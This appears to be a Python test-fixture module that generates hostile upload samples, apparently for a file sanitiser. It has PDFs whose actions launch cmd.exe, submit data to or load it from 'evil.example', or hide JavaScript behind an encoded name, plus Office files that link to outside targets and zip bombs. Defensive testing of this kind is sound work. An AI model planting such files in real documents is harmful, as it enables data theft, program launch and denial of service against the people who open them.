"""Files as people and as attackers send them, made in code: no binary lies in the repository."""

from collections.abc import Callable
from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

AUTHOR = "Secret author"
SCRIPT = "<script>alert(1)</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()
HTML = f"<!doctype html><html><body>{SCRIPT}</body></html>".encode()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)  # a locked or an old file of Office
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"


def zipped(parts: dict[str, bytes | str]) -> bytes:
    packed = BytesIO()
    with ZipFile(packed, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return packed.getvalue()


# PDF


def named(**values: Any) -> DictionaryObject:
    """`S="/Launch"` is a name of PDF, other words are texts."""
    return DictionaryObject({NameObject(f"/{key}"): _object(one) for key, one in values.items()})


def _object(value: Any) -> PdfObject:
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, list):
        return ArrayObject(_object(one) for one in value)
    return NumberObject(value) if isinstance(value, int) else value


def pdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": AUTHOR})
    if change is not None:
        change(writer)
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def on_opening(**action: Any) -> bytes:
    return pdf(lambda writer: _put(writer, "/OpenAction", named(**action)))


def _put(writer: PdfWriter, name: str, value: PdfObject) -> None:
    writer.root_object[NameObject(name)] = value


def _page(writer: PdfWriter, name: str, value: PdfObject) -> None:
    writer.pages[0][NameObject(name)] = value


def _script_in_a_field(writer: PdfWriter) -> None:
    acting = named(K=named(S="/JavaScript", JS="app.alert(1)"))
    field = named(FT="/Tx", T="a", AA=acting)
    _put(writer, "/AcroForm", named(Fields=[writer._add_object(field)]))


def _form_of_xml(writer: PdfWriter) -> None:
    _put(writer, "/AcroForm", named(Fields=[], XFA="xml"))


def pdf_signed() -> bytes:
    value = named(Type="/Sig", ByteRange=[0, 1, 2, 3])
    value[NameObject("/Contents")] = ByteStringObject(b"\x01")
    field = named(FT="/Sig", T="Signature", V=value)
    return pdf(lambda writer: _put(writer, "/AcroForm", named(Fields=[field], SigFlags=3)))


PASSIVE_ACTION = {"S": "/URI", "URI": "https://www.example.org/"}
ACTIVE_PDFS = {
    "a script on opening": on_opening(S="/JavaScript", JS="app.alert(1)"),
    "a script behind another action": on_opening(
        **PASSIVE_ACTION, Next=named(S="/JavaScript", JS="app.alert(1)")
    ),
    "a script by its name": pdf(
        lambda writer: _put(writer, "/Names", named(JavaScript=named(Names=[])))
    ),
    "a script in a field": pdf(_script_in_a_field),
    "a script of a page": pdf(
        lambda writer: _page(writer, "/AA", named(O=named(S="/JavaScript", JS="app.alert(1)")))
    ),
    "a program that is started": on_opening(S="/Launch", F="cmd.exe"),
    "a form that sends itself": on_opening(S="/SubmitForm", F="https://evil.example/"),
    "data that is loaded": on_opening(S="/ImportData", F="https://evil.example/"),
    "another file that is opened": on_opening(S="/GoToR", F="//evil.example/a.pdf"),
    "a film": on_opening(S="/Rendition"),
    "a form of XML": pdf(_form_of_xml),
    "a spelled-out script": on_opening(S="/JavaScript", JS="app.alert(1)").replace(
        b"/JavaScript", b"/J#61vaScript"
    ),
}


# Pictures


def jpeg(**more: Any) -> bytes:
    written = BytesIO()
    Image.new("RGB", (60, 40), "teal").save(written, "JPEG", **more)
    return written.getvalue()


def jpeg_with_place() -> bytes:
    """As a telephone takes it: turned, with the place and the camera."""
    about = Image.Exif()
    about[0x0112], about[0x010F] = 6, AUTHOR  # orientation, maker
    about.get_ifd(0x8825).update({1: "N", 2: (47.0, 2.0, 58.0), 3: "E", 4: (7.0, 37.0, 19.0)})
    return jpeg(exif=about, comment=AUTHOR.encode())


def png(mode: str = "RGB", **more: Any) -> bytes:
    written = BytesIO()
    Image.new(mode, (60, 40)).save(written, "PNG", **more)
    return written.getvalue()


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Author", AUTHOR)
    info.add_itxt("XML:com.adobe.xmp", AUTHOR)
    return png(pnginfo=info)


# Office and ODF

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types'
    ' xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WITH_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
BODY = '<w:document xmlns:w="urn:w"><w:body>{}</w:body></w:document>'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="urn:{}" Target="{}" TargetMode="External"/></Relationships>'
)
ELSEWHERE = "https://evil.example/a"


Parts = dict[str, bytes | str]


def docx(more: Parts | None = None, *, body: str = "Works again.", kind: str = WORD) -> bytes:
    parts: Parts = {
        "[Content_Types].xml": TYPES.format(kind),
        "word/document.xml": BODY.format(body),
        "docProps/core.xml": f"<core><creator>{AUTHOR}</creator></core>",
        "docProps/app.xml": f"<app><Company>{AUTHOR}</Company></app>",
    }
    return zipped(parts | (more or {}))


def docx_linking(kind: str, target: str = ELSEWHERE) -> bytes:
    return docx({"word/_rels/document.xml.rels": RELATIONS.format(kind, target)})


def odt(more: Parts | None = None, *, body: str = "<office:text/>") -> bytes:
    parts: Parts = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f'<office:document xmlns:office="urn:o"><office:scripts/>{body}'
        "</office:document>",
        "meta.xml": f"<meta><creator>{AUTHOR}</creator></meta>",
    }
    return zipped(parts | (more or {}))


def bomb() -> bytes:
    """300 KB that become 300 MB."""
    packed = BytesIO(docx())
    with (
        ZipFile(packed, "a", ZIP_DEFLATED) as archive,
        archive.open("word/media/a.png", "w") as part,
    ):
        for _ in range(300):
            part.write(bytes(1024 * 1024))
    return packed.getvalue()


def bomb_of_many() -> bytes:
    return docx({f"word/part{number}": b"" for number in range(3_100)})


def with_flag(content: bytes, bit: int) -> bytes:
    """Says of each part in the directory of the archive what that bit means."""
    start = content.find(b"PK\x01\x02")
    while start >= 0:
        flags = content[start + 8] | bit
        content = content[: start + 8] + bytes([flags]) + content[start + 9 :]
        start = content.find(b"PK\x01\x02", start + 4)
    return content
